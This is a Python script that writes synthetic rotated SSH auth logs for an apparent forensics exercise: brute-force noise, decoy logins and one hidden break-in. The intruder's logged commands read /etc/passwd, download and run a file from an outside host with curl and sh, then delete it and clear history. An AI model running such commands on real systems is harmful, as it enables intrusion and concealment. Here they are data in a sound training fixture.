"""make_logs.py FOLDER: three rotated log files of a server, with one break-in and several decoys."""

import gzip
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

ACCOUNTS = """root admin ann bob carla dora emil fritz git guest hanna ida jan karl lea max nina oracle otto paul
postgres rosa sven test tim ubuntu ute vera web www""".split()
INTRUDER, SCANNER, COLLEAGUE, KEYED = "203.0.113.77", "198.51.100.9", "192.0.2.14", "203.0.113.7"
START = datetime(2024, 3, 29, 6, 0, tzinfo=timezone.utc)


class Numbers:
    """Whole numbers below a bound, the same on every version of Python."""

    def __init__(self, seed):
        self.state = seed * 2 + 1

    def below(self, bound):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) % 2**64
        return (self.state >> 33) % bound


def events():
    """(seconds after START, message), unsorted."""
    draw = Numbers(2024).below
    day = 86400

    def failed(account, address):
        known = "" if account in ("ann", "bob", "carla", "web", "git") else "invalid user "
        return f"sshd: Failed password for {known}{account} from {address} port {1024 + draw(60000)} ssh2"

    def accepted(how, account, address):
        return f"sshd: Accepted {how} for {account} from {address} port {1024 + draw(60000)} ssh2"

    def login(second, how, account, address, session, commands):
        yield second, accepted(how, account, address)
        yield second, f"logind: New session {session} of user {account}"
        for index, command in enumerate(commands):
            yield second + 20 + index * 37, f"audit: session={session} user={account} cmd={command}"
        yield second + 1500, f"logind: Removed session {session}"

    for session in range(1, 60):
        account = ("ann", "bob", "carla", "git")[draw(4)]
        second = session * 3700 + draw(900)
        commands = [("ls", "cd /srv", "git pull", "make", "less /var/log/app.log")[draw(5)] for _ in range(draw(5))]
        how = ("publickey", "password")[draw(2)]
        if draw(3) == 0:
            yield second - 30, failed(account, COLLEAGUE)
        yield from login(second, how, account, COLLEAGUE, session, commands)
    yield 2 * day + 43000, "systemd: restarted"
    for number in range(420):
        yield 3000 + number * 590 + draw(300), failed(ACCOUNTS[draw(len(ACCOUNTS))], SCANNER)
    for number in range(14):
        yield 9000 + number * 11000, failed(ACCOUNTS[number * 2], KEYED)
    yield from login(200_000, "publickey", "git", KEYED, 77, ["git pull"])
    for number, account in enumerate(ACCOUNTS[3:22]):
        yield 30_000 + number * 9_100 + draw(4000), failed(account, INTRUDER)
    yield 120_000, "sshd: message repeated 3 times: [ " + failed("web", INTRUDER) + "]"
    yield 150_500, failed("web", INTRUDER)
    yield 185_000, f"sshd: Failed publickey for carla from {INTRUDER} port 4022 ssh2"
    commands = ["id", "uname -a", "cat /etc/passwd", "id", "curl -o /tmp/.x http://203.0.113.80/x", "sh /tmp/.x"]
    yield from login(2 * day + 46_900, "password", "web", INTRUDER, 9, commands)
    yield 2 * day + 52_000, failed("root", INTRUDER)
    yield 2 * day + 52_060, failed("vera", INTRUDER)
    yield from login(2 * day + 53_000, "password", "web", INTRUDER, 11, ["rm /tmp/.x", "history -c"])
    for session in (8, 10, 12):
        yield from login(2 * day + 44_000 + session * 800, "publickey", "ann", COLLEAGUE, session, ["ls", "make"])


def lines():
    """(moment in UTC, line) in order; the server's clock went from UTC+1 to UTC+2, then to UTC."""
    for second, message in sorted(events(), key=lambda event: event[0]):
        moment = START + timedelta(seconds=second)
        hours = 1 if moment < datetime(2024, 3, 31, 1, tzinfo=timezone.utc) else 2 if second < 2 * 86400 + 43000 else 0
        local = moment.astimezone(timezone(timedelta(hours=hours)))
        yield moment, f"{local.isoformat(timespec='seconds')} gate {message}\n"


def write(folder):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    parts = {"auth.log.2.gz": [], "auth.log.1": [], "auth.log": []}
    for moment, line in lines():
        age = (moment - START).total_seconds() / 86400
        parts["auth.log.2.gz" if age < 1 else "auth.log.1" if age < 2 else "auth.log"].append(line)
    for name, found in parts.items():
        data = "".join(found).encode()
        (folder / name).write_bytes(gzip.compress(data, mtime=0) if name.endswith(".gz") else data)


if __name__ == "__main__":
    write(sys.argv[1])
